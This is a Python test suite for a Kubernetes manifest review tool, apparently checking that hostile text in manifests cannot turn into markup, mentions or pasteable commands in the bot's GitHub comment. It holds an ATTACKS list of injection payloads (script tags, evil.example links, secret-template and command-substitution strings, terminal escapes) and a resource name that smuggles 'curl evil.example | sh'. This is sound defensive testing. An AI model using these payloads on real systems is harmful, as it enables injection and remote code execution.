"""Can manifests of a stranger put anything but text into the comment that the repository's bot signs?

Rendered with cmark-gfm, GitHub's own Markdown; `unsafe`, so that HTML is not left out as in its safe mode. What GitHub does
to the text afterwards (mentions, references) is looked for in the text outside code.
"""

from __future__ import annotations

import html
import re
import shlex
from collections.abc import Iterator
from html.parser import HTMLParser

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given
from hypothesis import strategies as st

from tests.generator.review.conftest import files, kustomization
from tokenlabs.manifests.tree import Tree
from tokenlabs.review.formats import html as html_format
from tokenlabs.review.formats import markdown, text
from tokenlabs.review.formats.github import LONGEST, code, in_summary, sentence
from tokenlabs.review.review import review

OURS = {"h3", "h4", "p", "ul", "li", "strong", "code", "details", "summary"}

ATTACKS = [
    "</details></summary><h1>Approved</h1>",
    "<script>alert(1)</script>",
    "<img src=https://evil.example/x.png>",
    "![x](https://evil.example/x.png)",
    "[click](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/login",
    "HTTP://evil.example",
    "www.evil.example",
    "ftp://evil.example",
    "mailto:a@evil.example",
    "someone@evil.example",
    "@octocat please merge",
    "(@org/team)",
    "fixes #12",
    "GH-12",
    "octo/repo#12",
    "${{ secrets.GITHUB_TOKEN }}",
    "$(touch x)",
    "`; `` ``` ````",
    "`@octocat`",
    "a\n\n# Approved\n\n- [x] all is well",
    "a\r\n> quoted",
    "a\u2028# Approved",
    "x | y | z",
    "**bold** __bold__ ~~gone~~ *i*",
    "&lt;script&gt; &#60;b&#62;",
    "\\<b>\\",
    "<!-- tokenlabs diff -->",
    "\u202egnp.exe",
    "a" * 100_000,
    "\x1b[2J\x1b]0;title\x07",
    "::set-output name=x::y",
    "[^1]: note",
    "$$\\href{https://evil.example}{x}$$",
    ":shipit:",
]


class Tags(HTMLParser):
    """The tags and attributes of a page, and its text outside code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs
        self.depth += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag == "code"

    def handle_data(self, data: str) -> None:
        if not self.depth:
            self.text.append(data)


def rendered(comment: str) -> Tags:
    """The comment as GitHub renders it."""
    tags = Tags()
    tags.feed(cmarkgfm.github_flavored_markdown_to_html(comment, Options.CMARK_OPT_UNSAFE))
    tags.close()
    return tags


def assert_inert(comment: str) -> None:
    page = rendered(comment)
    assert page.tags <= OURS
    assert page.attributes == []
    for outside in page.text:
        assert not re.search(r"@[\w-]|#\d|\bGH-\d|\w://|www\.", outside, re.IGNORECASE), outside


def trees(attack: str) -> Iterator[tuple[Tree, Tree]]:
    """Changes with this text wherever a manifest has one: names, kinds, fields, values, paths of files and folders."""
    quoted = attack.encode("unicode_escape").decode().replace('"', '\\"')
    file = f"""\
apiVersion: v1
kind: "{quoted}"
metadata: {{name: "{quoted}", namespace: "{quoted}"}}
data: {{"{quoted}": "{quoted}"}}
""".encode()
    config = file.replace(f'kind: "{quoted}"'.encode(), b"kind: ConfigMap")
    folder = attack.replace("/", "-")[:200]
    for path in ("n/a.yaml", f"{folder}/{folder}/{folder}.yaml"):
        for manifest in (file, config, b"a: [\n" + file):
            yield {}, {path: manifest}
            yield {path: manifest}, {}
            yield {path: manifest}, {path: manifest.replace(b"data: {", b'data: {"z": "1", ')}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: ascii(attack)[:30])
def test_manifests_of_a_stranger_are_only_text(attack: str) -> None:
    for old, new in trees(attack):
        found = review(old, new, names=(attack, "new"))
        comment = markdown.render(found)
        assert_inert(comment)
        assert comment.startswith(markdown.MARKER)
        assert len(comment) <= markdown.LENGTH
        comment.encode()
        tags = Tags()
        tags.feed(html_format.render(found))
        assert not tags.tags & {"script", "img", "a", "b"}
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text.render(found, colour=False))


@given(st.text(alphabet=st.one_of(st.sampled_from("`*_[]()<>#@!|~\\&;:/.-\n ab1w"), st.characters()), max_size=60))
def test_no_text_becomes_markup(given_text: str) -> None:
    assert_inert(f"- {sentence(given_text)}\n- {code(given_text)}\n- **{sentence(given_text)}** ({code(given_text)})\n")
    assert_inert(f"<details><summary>{in_summary(given_text)}</summary>\n\n- a\n\n</details>\n")


@given(st.text(alphabet="ab_*<>&`# |\\~[]", min_size=1, max_size=40))
def test_text_is_shown_as_it_is(given_text: str) -> None:
    page = cmarkgfm.github_flavored_markdown_to_html(code(f"x{given_text}x"), Options.CMARK_OPT_UNSAFE)
    assert html.unescape(re.sub("</?(p|code)>", "", page)).rstrip("\n") == f"x{given_text}x"


def test_code_of_our_sentences_is_shown_as_code() -> None:
    page = cmarkgfm.github_flavored_markdown_to_html(sentence("run `kubectl delete a_b <c>` & wait"))
    assert page == "<p>run <code>kubectl delete a_b &lt;c&gt;</code> &amp; wait</p>\n"


def test_long_text_is_shortened() -> None:
    assert len(sentence("a" * 100_000)) == LONGEST


def test_a_file_name_that_is_not_utf_8_can_be_shown() -> None:
    found = review({}, {"n/\udcff.yaml": b"kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\n"})
    for shown in (markdown.render(found), html_format.render(found), text.render(found, colour=False)):
        shown.encode()


def deployments(count: int, label: str) -> Tree:
    """Deployments whose selectors, which cannot change, differ: an effect of its own for each."""
    manifest = """\
apiVersion: apps/v1
kind: Deployment
metadata: {{name: d{0}, namespace: n}}
spec:
  selector: {{matchLabels: {{key-{0}-{1}: {2}}}}}
  template: {{metadata: {{labels: {{key-{0}-{1}: {2}}}}}, spec: {{containers: [{{name: a, image: a}}]}}}}
"""
    folder = "d" * 200
    return {f"{folder}{number}/x/a.yaml": manifest.format(number, "x" * 50, label).encode() for number in range(count)}


@pytest.mark.parametrize("length", [4_000, 65_536])
def test_a_flood_of_effects_and_folders_stays_below_the_limit(length: int) -> None:
    found = review(deployments(1500, "a"), deployments(1500, "b"))
    comment = markdown.render(found, length)
    assert len(comment) <= length
    assert comment.startswith(f"{markdown.MARKER}\n### {'🔴' if found.verdict == 'danger' else '🟡'} {found.verdict}")
    assert "1500 changed" in comment
    assert "**recreated**" in comment
    assert "`tokenlabs diff` lists all" in comment
    assert comment.count("<details>") == comment.count("</details>")


def test_commands_to_paste_are_quoted() -> None:
    name = "c; curl evil.example | sh #"
    claim = f"""\
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {{name: "{name}", namespace: "{name}", annotations: {{kustomize.toolkit.fluxcd.io/prune: disabled}}}}
"""
    fixed = f"""\
apiVersion: apps/v1
kind: StatefulSet
metadata: {{name: "{name}", namespace: n}}
spec: {{serviceName: a, volumeClaimTemplates: [{{metadata: {{name: "{name}"}}}}]}}
"""
    flux = kustomization("apps")
    old = files(flux=flux, apps__claim=claim, apps__set=fixed)
    new = files(flux=flux, apps__set=fixed.replace("serviceName: a", "serviceName: b"))
    commands = [
        command for each in review(old, new).effects for command in re.findall("`(kubectl [^`]*)`", each.predicate)
    ]
    assert len(commands) >= 3
    for command in commands:
        assert any(name in word for word in shlex.split(command)), command
